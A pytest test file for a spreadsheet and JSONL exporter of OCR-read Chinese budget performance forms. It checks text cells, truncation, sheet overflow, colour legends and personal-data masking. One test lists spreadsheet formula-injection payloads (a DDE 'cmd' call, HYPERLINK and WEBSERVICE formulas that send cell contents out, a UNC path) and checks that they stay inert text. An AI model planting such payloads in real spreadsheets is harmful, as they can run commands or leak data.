"""Proves pipeline/export: what stands in the record stands in the files, and nothing in them can run."""

from __future__ import annotations

import csv
import json
import re
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import openpyxl
import pytest
import xlsxwriter
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl.utils.escape import unescape

from pipeline.errors import PipelineError
from pipeline.export import mask_record, sheet, write_jsonl, write_workbook
from pipeline.export.celltext import MAX_UNITS, cell_text, is_active
from pipeline.export.columns import Column
from pipeline.export.rows import At, numeric, parse_at, spot_words, wrapped_lines
from pipeline.records import (
    FieldValue,
    Finding,
    FormHead,
    Indicator,
    Record,
    RepairEntry,
    RunnerUp,
    Source,
    SourcePage,
    TargetValue,
    ValueCell,
    Where,
)

PLACE = [Where(page=2, line=106, column=2)]


def field(value: str, *, status: Any = "unknown", review: bool = False) -> FieldValue:
    return FieldValue(value=value, raw=value, status=status, confidence=0.99, review=review, where=PLACE)


def target(text: str, number: str | None = None) -> TargetValue:
    return TargetValue(raw=text, value=text, kind="number" if number else "words", number=number)


def indicator(
    level3: str | None = "预算执行率",
    value: TargetValue | None = None,
    *,
    status: Any = "unchanged",
    raw: str | None = None,
    review: bool = False,
    extra: dict[str, str] | None = None,
) -> Indicator:
    cell = ValueCell(raw=raw or level3 or "", status=status, confidence=0.97, where=PLACE)
    return Indicator(
        level1="产出目标",
        level2="数量",
        level3=level3,
        target=value,
        review=review,
        extra=extra or {},
        cells={"level3": cell} if level3 else {},
    )


def record(
    *indicators: Indicator,
    fields: dict[str, FieldValue] | None = None,
    repairs: list[RepairEntry] | None = None,
    findings: list[Finding] | None = None,
    number: int = 1,
) -> Record:
    return Record(
        id=f"{number:064d}",
        source=Source(
            document="甲/表.txt", sha256="0" * 64, pages=[SourcePage(page=1, file="表.txt", sha256="0" * 64)]
        ),
        form=FormHead(title="某局预算项目绩效目标表", year=2020, agency="某局", money_unit="元"),
        fields={"项目名称": field("某项目"), "单位编码": field("019001")} | (fields or {}),
        indicators=list(indicators) or [indicator(value=target("=100%", "100"))],
        repairs=repairs or [],
        findings=findings or [],
    )


def repair(at: str, raw: str, value: str, status: Any = "repaired") -> RepairEntry:
    return RepairEntry(
        at=at,
        raw=raw,
        value=value,
        status=status,
        kind="look-alike",
        origin="misread",
        score=0.97,
        runner_up=RunnerUp(value="次选", score=0.5),
        evidence="dictionary:zhengzhou-2020",
        reason="形近",
    )


def opened(path: Path) -> Any:
    return openpyxl.load_workbook(path, rich_text=False)


def table(path: Path, name: str) -> list[dict[str, Any]]:
    rows = list(opened(path)[name].iter_rows(values_only=True))
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def cell_under(path: Path, name: str, title: str, row: int = 2) -> Any:
    found = opened(path)[name]
    [column] = [cell.column for cell in found[1] if cell.value == title]
    return found.cell(row, column)


def fill_of(cell: Any) -> str | None:
    return cell.fill.fgColor.rgb[-6:] if cell.fill.patternType == "solid" else None


def test_every_form_indicator_correction_and_finding_has_its_row(tmp_path: Path) -> None:
    """All exports hold the same records: a row too many or too few would make the workbook another archive."""
    first = record(
        indicator("预算执行率", target("=100%", "100")),
        indicator(None, None),
        repairs=[repair("indicators[0].level3", "预算执行卒", "预算执行率")],
        findings=[Finding(code="x", severity="info", at="fields.项目名称", message="看一看")],
    )
    second = record(indicator("满意度", target("≥90%", "90")), number=2)

    write_workbook([first, second], tmp_path / "r.xlsx")

    assert opened(tmp_path / "r.xlsx").sheetnames == ["项目", "指标", "更正", "问题", "说明"]
    assert [row["项目名称"] for row in table(tmp_path / "r.xlsx", "项目")] == ["某项目", "某项目"]
    assert [(row["序号"], row["三级指标"], row["目标值"]) for row in table(tmp_path / "r.xlsx", "指标")] == [
        (1, "预算执行率", "=100%"),
        (2, None, None),
        (1, "满意度", "≥90%"),
    ]
    [correction] = table(tmp_path / "r.xlsx", "更正")
    assert (correction["原文"], correction["改为"], correction["次选"]) == ("预算执行卒", "预算执行率", "次选")
    [finding] = table(tmp_path / "r.xlsx", "问题")
    assert (finding["级别"], finding["内容"], finding["说明"]) == ("提示", "某项目", "看一看")


def test_a_row_says_where_it_stands_and_how_sure_it_is(tmp_path: Path) -> None:
    """A value that nobody can find again on the page is worth nothing to an auditor."""
    write_workbook([record(indicator(value=target("=100%", "100"), extra={"分值": "5"}))], tmp_path / "r.xlsx")

    [row] = table(tmp_path / "r.xlsx", "指标")

    assert (row["年度"], row["单位名称"], row["单位编码"], row["项目名称"]) == (2020, "某局", "019001", "某项目")
    assert (row["页"], row["位置"], row["来源文件"]) == ("2", "第 106 行", "甲/表.txt")
    assert (row["置信度"], row["状态"], row["分值"], row["数值"]) == (0.97, "与词典一致", "5", 100)


def test_findings_come_worst_first(tmp_path: Path) -> None:
    """Whoever opens the sheet sees the errors of a form before its hints."""
    found = [
        Finding(code=code, severity=severity, at="fields.项目概况", message="。")  # type: ignore[arg-type]
        for code, severity in (("a", "info"), ("b", "error"), ("c", "warning"), ("d", "error"))
    ]

    write_workbook([record(fields={"项目概况": field("很长的文字。" * 20)}, findings=found)], tmp_path / "r.xlsx")

    rows = table(tmp_path / "r.xlsx", "问题")
    assert [row["代码"] for row in rows] == ["b", "d", "c", "a"]
    assert all(len(row["内容"]) == 30 and row["内容"].endswith("…") for row in rows)


def test_a_text_has_lines_and_no_pages(tmp_path: Path) -> None:
    """A column that is empty all the way down tells nobody anything."""
    made = record()
    line = [Where(line=106, column=2)]
    cells = {"level3": made.indicators[0].cells["level3"].model_copy(update={"where": line})}
    rows = [made.indicators[0].model_copy(update={"cells": cells})]
    fields = {label: value.model_copy(update={"where": line}) for label, value in made.fields.items()}

    write_workbook([made.model_copy(update={"indicators": rows, "fields": fields})], tmp_path / "r.xlsx")

    [row] = table(tmp_path / "r.xlsx", "指标")
    assert row["位置"] == "第 106 行"
    assert "页" not in row


def test_codes_and_targets_are_text_even_when_edited(tmp_path: Path) -> None:
    """019001 must not become 19001 nor =100% a formula when a person touches the cell: both are set as text."""
    write_workbook([record()], tmp_path / "r.xlsx")

    code = cell_under(tmp_path / "r.xlsx", "指标", "单位编码")
    value = cell_under(tmp_path / "r.xlsx", "指标", "目标值")

    assert (code.value, code.data_type, code.number_format) == ("019001", "s", "@")
    assert (value.value, value.data_type, value.number_format, value.quotePrefix) == ("=100%", "s", "@", True)


@settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    text=st.text(min_size=1, max_size=80)
    | st.from_regex(r"[=+\-@\t\r＝][ -~]{0,30}", fullmatch=True)
    | st.sampled_from(
        ["<r><t>x</t></r>", "_x0041_", "a\x00b\x0bc", "\ud7ff\ufffe", "<r></r>", "http://a.b/c", "'x", " "]
    )
)
def test_any_text_comes_back_as_text(tmp_path: Path, text: str) -> None:
    """Whatever OCR reads, the file opens, holds no formula, and shows the text."""
    path = tmp_path / "r.xlsx"
    made = record(
        indicator(text, target(text), extra={text: text}),
        fields={f"标{text}": field(text)},
        repairs=[repair("indicators[0].level3", text, text + "改")],
        findings=[Finding(code="c", severity="error", at="indicators[0].target", message=text)],
    )

    write_workbook([made], path)

    book = opened(path)
    row = [unescape(str(cell.value or "")) for cell in book["指标"][2]]
    assert row.count(cell_text(text)) >= 3 or not cell_text(text).strip()
    assert all(cell.data_type != "f" for found in book for line in found.iter_rows() for cell in line)
    with zipfile.ZipFile(path) as parts:
        assert not any(b"<f>" in parts.read(name) for name in parts.namelist() if "worksheets/sheet" in name)


@pytest.mark.parametrize(
    "text",
    [
        "=100%",
        "=100.00(%)",
        "=600人/次",
        "-",
        "--",
        "-5%",
        "+86 0371-6000",
        "@",
        "= 100",
        "=2020.1.1-2020.12.31",
        "≥90%",
    ],
)
def test_plain_targets_are_left_alone(text: str) -> None:
    """A target that begins with = is the normal case; an apostrophe in front of it would be a misreading."""
    assert cell_text(text) == text


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://a/?"&A1,"x")',
        "=cmd|' /C calc'!A0",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=WEBSERVICE(A1)",
        "\r\n=1+IMPORTXML(A1)",
        "＝ＣＭＤ｜'x'！Ａ０",
        r"=\\host\share\x",
        " =SUM(A1)",
    ],
)
def test_what_could_run_stays_text_after_a_csv_round_trip(tmp_path: Path, text: str) -> None:
    """People save a sheet as CSV and open that; there no cell may begin like a formula that reaches out of its cell."""
    write_workbook([record(indicator(text, target(text)))], tmp_path / "r.xlsx")

    with (tmp_path / "r.csv").open("w", newline="", encoding="utf-8") as out:
        csv.writer(out).writerows(opened(tmp_path / "r.xlsx")["指标"].iter_rows(values_only=True))
    with (tmp_path / "r.csv").open(newline="", encoding="utf-8") as back:
        cells = [cell for line in csv.reader(back) for cell in line]

    assert cells.count(cell_text(text)) >= 2
    assert cell_text(text).startswith("'")
    assert not any(is_active(cell) for cell in cells)


@pytest.mark.parametrize("unit", ["甲", "a", "𠮷", "a𠮷", "=1("])
@pytest.mark.parametrize("surplus", [-2, -1, 0, 1, 2, 5000])
def test_no_text_is_longer_than_a_cell(unit: str, surplus: int) -> None:
    """Excel repairs away a cell of more than 32,767 UTF-16 units; rare Hanzi count two."""
    length = len(unit.encode("utf-16-le")) // 2
    text = unit * ((MAX_UNITS + surplus) // length)

    shown = cell_text(text)

    assert len(shown.encode("utf-16-le")) // 2 <= MAX_UNITS
    assert shown == text or shown.endswith("全文见 records.jsonl）")


def test_a_long_text_is_cut_with_a_word_about_it(tmp_path: Path) -> None:
    """A silent cut would be a loss that nobody sees."""
    write_workbook([record(fields={"项目概况": field("𠮷" * 20_000)})], tmp_path / "r.xlsx")

    [row] = table(tmp_path / "r.xlsx", "项目")

    assert row["项目概况"].startswith("𠮷𠮷𠮷")
    assert row["项目概况"].endswith("（原文共 20000 字，此处截断，全文见 records.jsonl）")


def test_a_full_sheet_goes_on_on_the_next(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A sheet ends at 1,048,576 rows; rows beyond it must not vanish, and links must find them."""
    monkeypatch.setattr(sheet, "MAX_ROWS", 4)
    rows = [indicator(f"指标{number}", target("=1", "1")) for number in range(7)]
    made = record(*rows, repairs=[repair("indicators[4].level3", "指标卒", "指标4")])

    write_workbook([made], tmp_path / "r.xlsx")

    book = opened(tmp_path / "r.xlsx")
    names = [name for name in book.sheetnames if name.startswith("指标")]
    assert names == ["指标", "指标 2", "指标 3"]
    assert [row["三级指标"] for name in names for row in table(tmp_path / "r.xlsx", name)] == [
        f"指标{n}" for n in range(7)
    ]
    link = cell_under(tmp_path / "r.xlsx", "更正", "所在").hyperlink.location
    place, _, cell = link.partition("!")
    assert book[place.strip("'")][cell].value == "指标4"


def test_doubtful_cells_have_the_colours_of_the_legend(tmp_path: Path) -> None:
    """The eye finds what needs a look; the legend says what the colour means."""
    made = record(
        indicator("甲", target("=1"), status="repaired", raw="申"),
        indicator("乙", target("=1"), status="proposed"),
        indicator("丙", target("=1"), review=True),
        indicator("丁", None, review=True),
        indicator("戊", target("=1")),
        findings=[Finding(code="target.missing", severity="error", at="indicators[3].target", message="没有目标值")],
    )

    write_workbook([made], tmp_path / "r.xlsx")

    guide = opened(tmp_path / "r.xlsx")["说明"]
    legend = {row[1].value: fill_of(row[1]) for row in guide.iter_rows() if fill_of(row[1])}
    names = [fill_of(cell_under(tmp_path / "r.xlsx", "指标", "三级指标", row)) for row in range(2, 7)]
    assert names == [legend["已更正"], legend["有建议"], legend["待复核"], None, None]
    assert fill_of(cell_under(tmp_path / "r.xlsx", "指标", "目标值", 5)) == legend["有错误"]
    assert len(set(legend.values()) - {"2F4B6E"}) == 4


def test_sheets_are_flat_filtered_and_frozen(tmp_path: Path) -> None:
    """One header row and no merged cells: the sheet sorts, filters and loads elsewhere."""
    write_workbook([record(), record(number=2)], tmp_path / "r.xlsx")

    for name in ("项目", "指标", "更正", "问题"):
        found = opened(tmp_path / "r.xlsx")[name]
        titles = [cell.value for cell in found[1]]
        assert found.freeze_panes is not None
        assert found.freeze_panes.endswith("2")
        assert found.auto_filter.ref.startswith("A1:")
        assert not found.merged_cells.ranges
        assert len(set(titles)) == len(titles)


def test_a_printed_column_may_have_the_name_of_a_column_of_ours(tmp_path: Path) -> None:
    """Two columns of one name could not be told apart."""
    write_workbook(
        [record(indicator(extra={"序号": "三", "状态": "好"}), fields={"年度": field("二〇二〇")})], tmp_path / "r.xlsx"
    )

    [row] = table(tmp_path / "r.xlsx", "指标")
    [form] = table(tmp_path / "r.xlsx", "项目")

    assert (row["序号"], row["序号（原表）"], row["状态（原表）"]) == (1, "三", "好")
    assert (form["年度"], form["年度（原表）"]) == (2020, "二〇二〇")


def test_a_hundred_rare_headers_lose_nothing(tmp_path: Path) -> None:
    """Headers misread in a hundred ways do not bury the sheet; what stands under them is gathered in one column."""
    rows = [indicator(extra={f"列{number}": f"值{number}"}) for number in range(100)]
    made = record(*rows, fields={f"栏{number}": field(f"内容{number}") for number in range(100)})

    write_workbook([made], tmp_path / "r.xlsx")

    everything = "\n".join(
        str(cell) for name in ("项目", "指标") for row in table(tmp_path / "r.xlsx", name) for cell in row.values()
    )
    assert all(f"值{number}" in everything and f"内容{number}" in everything for number in range(100))
    assert len(table(tmp_path / "r.xlsx", "指标")[0]) < 70


def test_the_same_records_make_the_same_file(tmp_path: Path) -> None:
    """No clock and no chance in it; a list and an iterator are the same records."""
    made = [record(repairs=[repair("indicators[0].level3", "甲", "乙")]), record(number=2)]

    write_workbook(made, tmp_path / "a.xlsx")
    write_workbook(iter(made), tmp_path / "b.xlsx")

    assert (tmp_path / "a.xlsx").read_bytes() == (tmp_path / "b.xlsx").read_bytes()


def test_a_sheet_remembers_no_row_that_it_has_written(tmp_path: Path) -> None:
    """The library keeps every row's height to the end: of a million rows that is 400 MB."""
    book = xlsxwriter.Workbook(str(tmp_path / "w.xlsx"), {"constant_memory": True})
    one = sheet.Sheet(book, sheet.Formats(book), "指标", [Column("名称", 20, "text")])
    for number in range(50):
        one.add([sheet.Cell(f"第{number}行")])

    assert len(one._sheet.row_info) <= 2
    assert len(one._sheet.row_sizes) <= 2
    one.finish()
    book.close()
    rows = openpyxl.load_workbook(tmp_path / "w.xlsx")["指标"].row_dimensions
    assert {rows[number].height for number in range(2, 52)} == {20.25}  # 20 in the steps that screens have


def test_no_records_make_an_empty_workbook(tmp_path: Path) -> None:
    """A run in which no form was found still leaves a workbook that opens."""
    write_workbook([], tmp_path / "r.xlsx")

    assert table(tmp_path / "r.xlsx", "指标") == []


def test_long_rows_stay_readable(tmp_path: Path) -> None:
    """A narrative of a thousand characters shows its beginning instead of filling the screen."""
    write_workbook([record(fields={"项目概况": field("很长的文字。" * 200)})], tmp_path / "r.xlsx")

    found = opened(tmp_path / "r.xlsx")["项目"]

    assert 40 < found.row_dimensions[2].height < 120
    assert cell_under(tmp_path / "r.xlsx", "项目", "项目概况").alignment.wrap_text


def test_masked_exports_name_nobody(tmp_path: Path) -> None:
    """Shared exports leave the office without the people: in fields, narratives, reasons and messages alike."""
    people = {
        "项目负责人": field("赵一甲、钱乙"),
        "联系电话": field("60000001 0371-60000002"),
        "联系人": field("办公室"),
        "项目概况": field("由赵一甲（13800138000）在办公室办理，预算13800138000.00元。"),
    }
    made = record(fields=people, findings=[Finding(code="c", severity="info", at="form.year", message="钱乙是谁")])

    write_workbook([made], tmp_path / "r.xlsx", mask_personal=True)
    write_jsonl([made], tmp_path / "r.jsonl", mask_personal=True)

    shown = " ".join(
        str(cell.value) for found in opened(tmp_path / "r.xlsx") for line in found.iter_rows() for cell in line
    )
    for text in (shown, (tmp_path / "r.jsonl").read_text(encoding="utf-8")):
        assert not re.search("赵一甲|钱乙|60000001|60000002|13800138000(?!\\.00)", text)
        assert "赵**、钱*" in text
        assert "600*****" in text
        # A word under 联系人 is masked there; elsewhere it is only a word. An amount is no telephone number.
        assert "在办公室办理，预算13800138000.00元" in text


@pytest.mark.parametrize(
    ("label", "people"),
    [("联系话", False), ("联糸电话", False), ("系联电话", False), ("电子邮稍", False), ("项目负责", True),
     ("项目负贵人", True), ("财务→单位员责人", True)],
)  # fmt: skip
def test_misread_labels_hide_people_too(label: str, people: bool) -> None:
    """A label that repair left alone is a person's none the less; whoever asks for masks cannot read them all."""
    said = mask_record(record(fields={label: field("赵一甲 60000001")})).fields[label].value

    assert "60000001" not in said
    assert ("赵一甲" not in said) == people


def test_labels_that_only_resemble_those_of_people_are_printed() -> None:
    """项目负责单位 is an office, and its name is what the export is for."""
    made = record(fields={"项目负责单位": field("郑州市科技局")})

    assert mask_record(made).fields["项目负责单位"].value == "郑州市科技局"


def test_masking_twice_is_masking_once() -> None:
    """A masked record is a record like any other."""
    made = record(fields={"联系人": field("赵一甲"), "联系电话": field("60000001")})

    masked = mask_record(made)

    assert mask_record(masked) == masked
    assert masked.fields["联系人"].value == "赵**"
    assert masked.id == made.id


def test_a_run_that_breaks_leaves_the_old_file(tmp_path: Path) -> None:
    """Half a workbook looks like a whole one to whoever opens it."""
    (tmp_path / "r.xlsx").write_text("old")
    (tmp_path / "r.jsonl").write_text("old")

    def broken() -> Iterator[Record]:
        yield record()
        raise ValueError("broken")

    for write, name in ((write_workbook, "r.xlsx"), (write_jsonl, "r.jsonl")):
        with pytest.raises(ValueError, match="broken"):
            write(broken(), tmp_path / name)

    assert sorted(path.name for path in tmp_path.iterdir()) == ["r.jsonl", "r.xlsx"]
    assert (tmp_path / "r.xlsx").read_text() == (tmp_path / "r.jsonl").read_text() == "old"


def test_a_place_that_cannot_be_written_is_named(tmp_path: Path) -> None:
    """The message names the file and what to do."""
    (tmp_path / "file").write_text("")

    for write in (write_workbook, write_jsonl):
        with pytest.raises(PipelineError, match=r"r\.out: cannot be written .*name another folder"):
            write([record()], tmp_path / "file" / "r.out")


def test_lines_are_the_records(tmp_path: Path) -> None:
    """records.jsonl holds the records and nothing else, in their order, one a line."""
    made = [record(indicator("a\u2028b\nc", target("=1"))), record(number=2)]

    write_jsonl(iter(made), tmp_path / "deep" / "r.jsonl")

    lines = (tmp_path / "deep" / "r.jsonl").read_bytes().decode("utf-8").split("\n")
    assert [Record.model_validate_json(line) for line in lines[:-1]] == made
    assert lines[-1] == ""
    assert json.loads(lines[0])["indicators"][0]["cells"]["level3"]["where"] == [{"page": 2, "line": 106, "column": 2}]


@pytest.mark.parametrize(
    ("path", "at", "words"),
    [
        ("indicators[12].level3", At(12, "level3"), "指标 13 · 三级指标"),
        ("indicators[0]", At(0), "指标 1"),
        ("indicators[3].extra.分值", At(3, "分值"), "指标 4 · 分值"),
        ("indicators[3].cells.level2", At(3, "level2"), "指标 4 · 二级指标"),
        ("fields.项目资金→年度资金总额", At(part="项目资金→年度资金总额"), "项目资金→年度资金总额"),
        ("fields.项目概况.value", At(part="项目概况"), "项目概况"),
        ("fields.项目概况.label", At(part="项目概况"), "项目概况"),
        ("fields['项目概况']", At(part="项目概况"), "项目概况"),
        ("form.agency", At(other="单位名称"), "单位名称"),
        ("line 12", At(other="line 12", where=Where(line=12)), "第 12 行"),
        ("page 3", At(other="page 3", where=Where(page=3)), "第 3 页"),
        ("pages[2]", At(other="pages[2]"), "pages[2]"),
    ],
)
def test_places_are_said_as_people_say_them(path: str, at: At, words: str) -> None:
    """`indicators[12].level3` is the thirteenth row's 三级指标 to whoever reads the sheet."""
    assert parse_at(path) == at
    assert parse_at(path).words == words


@pytest.mark.parametrize(
    ("places", "words"),
    [
        ([], ""),
        ([Where(page=1, line=7, column=2)], "第 7 行"),
        ([Where(line=number) for number in (21, 19, 20, 40, 20)], "第 19–21 行、第 40 行"),
        ([Where(sheet="表一", cell="C4"), Where(cell="D5")], "表一!C4、D5"),
        ([Where(page=1, polygon=[(10.6, 5.2), (30, 5.2), (30, 9), (10.6, 9)])], "x 11 y 5"),
    ],
)
def test_a_spot_is_short(places: list[Where], words: str) -> None:
    """A narrative of twenty lines is one place."""
    assert spot_words(places) == words


@given(st.decimals(allow_nan=False, allow_infinity=False, places=2, min_value=-(10**16), max_value=10**16))
def test_numbers_show_every_digit_or_stay_text(number: Any) -> None:
    """A spreadsheet keeps fifteen digits: a number it would change is left as text."""
    digits = format(number, "f")

    made = numeric(digits)

    if made is None:
        assert len(digits.strip("-").replace(".", "").lstrip("0")) > 15 or digits.startswith("-0")
    else:
        value, form = made
        assert format(value, f".{len(form.partition('.')[2])}f") == digits


def test_amounts_can_be_added_up_and_codes_cannot(tmp_path: Path) -> None:
    """What the record knows as an amount is a number in the sheet; whatever else looks like one stays text."""
    amount = {"kind": "amount", "amount": "4080000.00", "unit": "元", "yuan": "4080000.00", "note": None}
    plain = field("4,080,000.00").model_copy(update={"parsed": amount})
    worded = field("408万元").model_copy(update={"parsed": amount})

    write_workbook([record(fields={"总额": plain, "又": worded, "电话": field("60000001")})], tmp_path / "r.xlsx")

    [row] = table(tmp_path / "r.xlsx", "项目")
    assert (row["总额"], row["又"], row["电话"]) == (4080000, "408万元", "60000001")
    assert cell_under(tmp_path / "r.xlsx", "项目", "总额").number_format == "#,##0.00"


@pytest.mark.parametrize("digits", ["019001", "1e5", "", "１", "1,000", "12345678901234567890"])
def test_what_is_not_plainly_a_number_stays_text(digits: str) -> None:
    """Leading zeros and longer numbers would be changed."""
    assert numeric(digits) is None


def test_hanzi_are_counted_twice_as_wide() -> None:
    """Row heights follow from it."""
    assert wrapped_lines("汉字汉字", 9) == 1
    assert wrapped_lines("汉字汉字汉", 9) == 2
    assert wrapped_lines("a\nb", 9) == 2
